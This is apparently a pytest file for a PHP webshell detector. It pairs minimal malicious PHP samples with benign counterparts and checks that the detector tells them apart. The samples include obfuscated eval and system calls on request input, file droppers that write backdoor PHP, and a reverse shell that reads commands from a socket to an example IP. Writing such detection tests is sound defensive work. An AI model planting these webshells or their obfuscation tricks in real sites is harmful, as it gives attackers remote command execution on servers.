"""PHP analysis of the techniques added for issue 3: a positive and a benign sample each.

All samples are minimal ones written for these tests (decoders, droppers, variable imports,
reflection, stored and network sources, unrestricted uploads).
"""

from __future__ import annotations

import base64
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sscguard.detect.webshell.detectors import FileContext, detect_php, run_detectors
from sscguard.detect.webshell.flow import MAX_SECONDS, SinkKind
from sscguard.detect.webshell.php import analyse_php
from sscguard.detect.webshell.phpinterp import MAX_FILE_STEPS
from sscguard.model import Severity


def _shift(text: str, key: int) -> str:
    return "".join(f"{ord(c) + key:02X}" for c in text)


def _table(text: str) -> tuple[str, str]:
    """A substitution-table packer: base64 text with every letter rotated by one."""
    plain = base64.b64encode(text.encode()).decode()

    def rot(c: str) -> str:
        if c.isalpha():
            base = ord("A") if c.isupper() else ord("a")
            return chr(base + (ord(c) - base + 1) % 26)
        return c

    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
    table = ", ".join(f"'{rot(c)}' => '{c}'" for c in letters)
    return "".join(rot(c) for c in plain), table


_TABLE_DATA, _TABLE = _table("system($_POST['k']);")

POSITIVES: dict[str, str] = {
    # a user decoder function run over constants by the interpreter
    "user-decoder-shift": (
        "<?php\nfunction dec($s, $k) { $o = '';\n"
        "  for ($i = 0; $i < strlen($s); $i += 2) { $o .= chr(hexdec(substr($s, $i, 2)) - $k); }\n"
        "  return $o; }\n"
        f"$f = dec('{_shift('assert', 3)}', 3);\n$f($_REQUEST['x']);\n"
    ),
    "user-decoder-table": (
        "<?php\nfunction untable($s, $t) { $o = '';\n"
        "  for ($i = 0; $i < strlen($s); $i++) { $o .= isset($t[$s[$i]]) ? $t[$s[$i]] : $s[$i]; }\n"
        "  return base64_decode($o); }\n"
        f"$t = array({_TABLE});\neval(untable('{_TABLE_DATA}', $t));\n"
    ),
    # position-based folding of reassigned variables
    "reassigned-replace-chain": (
        "<?php\n$a = 'XXevXXal(XX$_GET[1]);';\n$b = str_replace('XX', '', $a);\n"
        "$a = $b;\neval($a);\n"
    ),
    "self-append-substr": (
        "<?php\n$f = $f . substr('zzass', 2, 3);\n$f = $f . substr('ertyy', 0, 3);\n"
        "$f($_POST['z']);\n"
    ),
    "explode-index": (
        "<?php\n$p = explode('.', 'x.ass.y.er.t');\nregister_shutdown_function($p[1].$p[3].$p[4], "
        "$_REQUEST['k']);\n"
    ),
    "define-sprintf": (
        "<?php\ndefine('A', 'sys');\ndefine('B', 'tem');\n$f = sprintf('%s%s', A, B);\n"
        "$f($_GET['c']);\n"
    ),
    "array-diff-join": (
        "<?php\n$f = join(array_diff(array('sy', 'q', 'st', 'em'), array('q')));\n"
        "array_map($f, (array)$_REQUEST['1']);\n"
    ),
    # variables created from the request
    "extract-request": "<?php\n@extract($_REQUEST);\n@die($fn($arg));\n",
    "variable-variables-loop": (
        "<?php\nforeach (array('_POST') as $src) {\n"
        "  foreach ($$src as $k => $v) { $$k = $v; }\n}\n"
        "$run($v);\n"
    ),
    "constructor-parameter": (
        "<?php\nclass T { function __construct($f, $a) { $f($a); } }\n"
        "$r = new ReflectionClass('T');\n$r->newInstance($_POST['f'], $_POST['a']);\n"
    ),
    "reflection-invoke": (
        "<?php\n$fn = new ReflectionFunction('system');\n$fn->invoke($_GET['c']);\n"
    ),
    "function-return": "<?php\nfunction x() { return '/*a*/' . $_POST['a']; }\neval(x());\n",
    "stored-session": "<?php\nsession_start();\n$c = 'ass' . 'ert';\n$c($_SESSION['p']);\n",
    "globals-superglobal": "<?php\n$c = $GLOBALS['_GET']['c'];\nsystem($c);\n",
    "header-by-position": "<?php\n$h = array_values($_SERVER);\neval($h[7]);\n",
    "getenv-header": "<?php\npassthru(getenv('HTTP_ACCEPT_LANGUAGE'));\n",
    "write-then-include": (
        "<?php\nfile_put_contents('cache.tmp', $_GET['c']);\nrequire 'cache.tmp';\n"
    ),
    "dropper": (
        "<?php\n$code = '<?php @eval($_P' . 'OST[1]); ?>';\n"
        "file_put_contents(dirname(__FILE__) . '/x.php', $code);\n"
    ),
    "dropper-fputs": "<?php\nfputs(fopen('y.php', 'w'), '<?php system($_GET[\"c\"]); ?>');\n",
}

BENIGN: dict[str, str] = {
    "user-function-plain": (
        "<?php\nfunction label($s) { return strtoupper(substr($s, 0, 3)); }\n"
        "echo label('hello');\n$cb = 'trim';\necho $cb($_GET['q']);\n"
    ),
    "template-extract-own-data": (
        "<?php\nfunction render($file, $vars) { extract($vars); include $file; }\n"
        "render('page.phtml', array('title' => 'x'));\n"
    ),
    "router-constant-callable": (
        "<?php\n$routes = array('home' => 'show_home');\n$h = $routes['home'];\n"
        "call_user_func($h, $_GET['id']);\n"
    ),
    "session-as-data": "<?php\nsession_start();\necho htmlspecialchars($_SESSION['user']);\n",
    "reflection-class-only": (
        "<?php\n$r = new ReflectionClass('Foo');\n$o = $r->newInstance();\necho $o->name;\n"
    ),
    "config-writer": (
        '<?php\n$cfg = \'<?php return array("db" => "app");\';\n'
        "file_put_contents('config.php', $cfg);\n"
    ),
    "cache-include-constant": (
        "<?php\nfile_put_contents('cache.txt', json_encode($_GET));\n"
        "$x = file_get_contents('cache.txt');\n"
    ),
    "eval-trivial-constant": "<?php\n$v = '0b' . '0';\n$n = eval('return ' . $v . ';');\n",
    "sanitised-include": (
        "<?php\n$l = preg_replace('/[^a-z\\-]+/', '', $_REQUEST['l']);\n"
        "include 'lang/' . $l . '/text.php';\n"
    ),
    "numeric-flag-from-header": (
        "<?php\n$conf['gz'] = true;\n$conf['gz'] &= str_contains($_SERVER['HTTP_ACCEPT'], 'x');\n"
        "include $conf['dir'] ?? 'a.php';\n"
    ),
    "checked-upload": (
        "<?php\n$ext = strtolower(pathinfo($_FILES['f']['name'], PATHINFO_EXTENSION));\n"
        "if (in_array($ext, array('png', 'jpg'))) {\n"
        "  move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . $_FILES['f']['name']);\n}\n"
    ),
}


@pytest.mark.parametrize("name", sorted(POSITIVES))
def test_new_technique_is_flagged(name: str) -> None:
    findings = run_detectors("x.php", POSITIVES[name].encode(), ())
    assert [f for f in findings if f.severity >= Severity.HIGH], name


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_new_technique_benign_counterpart_is_not_flagged(name: str) -> None:
    findings = run_detectors("x.php", BENIGN[name].encode(), ())
    assert not [f for f in findings if f.severity >= Severity.MEDIUM], name


def test_decoder_function_result_is_explained_as_a_constant_callee() -> None:
    analysis = analyse_php(POSITIVES["user-decoder-shift"].encode())
    (path,) = analysis.paths
    assert path.kind is SinkKind.CODE and path.steps[0].label == "$_REQUEST['x']"


def test_table_decoder_payload_is_an_executed_layer() -> None:
    analysis = analyse_php(POSITIVES["user-decoder-table"].encode())
    assert analysis.layers and analysis.layers[0].executed
    assert analysis.paths and analysis.paths[0].kind is SinkKind.COMMAND


def test_dropper_payload_is_analysed_as_a_written_layer() -> None:
    analysis = analyse_php(POSITIVES["dropper"].encode())
    assert any("written to a file" in c for layer in analysis.layers for c in layer.chain)
    assert analysis.paths[0].layer == 1


def test_reverse_shell_reading_commands_from_a_socket_is_high() -> None:
    sample = (
        "<?php\n$s = fsockopen('203.0.113.9', 4444);\n"
        "while ($c = fgets($s, 1024)) { fwrite($s, shell_exec($c)); }\n"
    )
    analysis = analyse_php(sample.encode())
    assert analysis.paths and analysis.paths[0].kind is SinkKind.SOCKET
    findings = run_detectors("r.php", sample.encode(), ())
    assert any(f.severity is Severity.HIGH for f in findings)
    benign = "<?php\n$s = fsockopen('example.org', 80);\n$line = fgets($s);\necho strlen($line);\n"
    assert not run_detectors("b.php", benign.encode(), ())


def test_unchecked_upload_of_request_named_file_is_medium() -> None:
    sample = "<?php\nmove_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);\n"
    (finding,) = detect_php(FileContext("up.php", sample.encode()))
    assert finding.rule_id == "SSC-003-402" and finding.severity is Severity.MEDIUM
    assert any("unrestricted upload" in e.detail for e in finding.evidence)
    fixed = "<?php\nmove_uploaded_file($_FILES['f']['tmp_name'], $_POST['id'] . '.dat');\n"
    (low,) = detect_php(FileContext("up.php", fixed.encode()))
    assert low.severity is Severity.LOW


def test_interpreter_stops_on_an_endless_decoder() -> None:
    sample = (
        "<?php\nfunction spin($s) { $o = ''; while (true) { $o .= 'a'; } return $o; }\n"
        "function loop($s) { for ($i = 0; ; $i++) { $s = md5($s); } }\n"
        "function deep($n) { return deep($n . 'x'); }\n"
        "$a = spin('x'); $b = loop('y'); $c = deep('z');\neval($a . $b . $c);\n"
    )
    start = time.monotonic()
    analysis = analyse_php(sample.encode())
    assert time.monotonic() - start < MAX_SECONDS * 8
    assert not analysis.layers


_PHP_TOKENS = st.sampled_from(
    [
        "function f($a,$b){", "}", "for($i=0;$i<strlen($a);$i++){", "while($i<9){", "$i++;",
        "$o.=chr(ord($a[$i])^3);", "$o=$o.substr($a,$i,2);", "return $o;", "return f($o,1);",
        "if($a==$b){", "}else{", "$t=array('a'=>'b',3);", "$o.=isset($t[$a[$i]])?$t[$a[$i]]:'';",
        "$o=str_replace('x','',$a);", "$o=base64_decode($o);", "break;", "continue;",
        "$x=f('YXNzZXJ0',2);", "eval(f('abc',1));", "$x($_GET[1]);", "$a=1<<70;", "$a=1/0;",
        "$o=str_repeat($o,99999);", "$i=-1;", "global $g;", "$g=array(1,2);",
        "foreach($t as $k=>$v){",
        "$a%=0;", "$a=hexdec($a)-7;", "$a=(int)$a;", "$a = -$a ** 99;", "$o[$i]='z';", "$o[]=1;",
    ]
)  # fmt: skip


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_PHP_TOKENS, max_size=40))
def test_interpreter_fuzz_never_crashes_and_stays_bounded(tokens: list[str]) -> None:
    source = ("<?php " + "".join(tokens)).encode()
    start = time.monotonic()
    analysis = analyse_php(source)
    assert time.monotonic() - start < MAX_SECONDS * 8
    assert isinstance(analysis.layers, tuple)


def test_interpreter_step_budget_is_per_file() -> None:
    assert MAX_FILE_STEPS >= 60_000
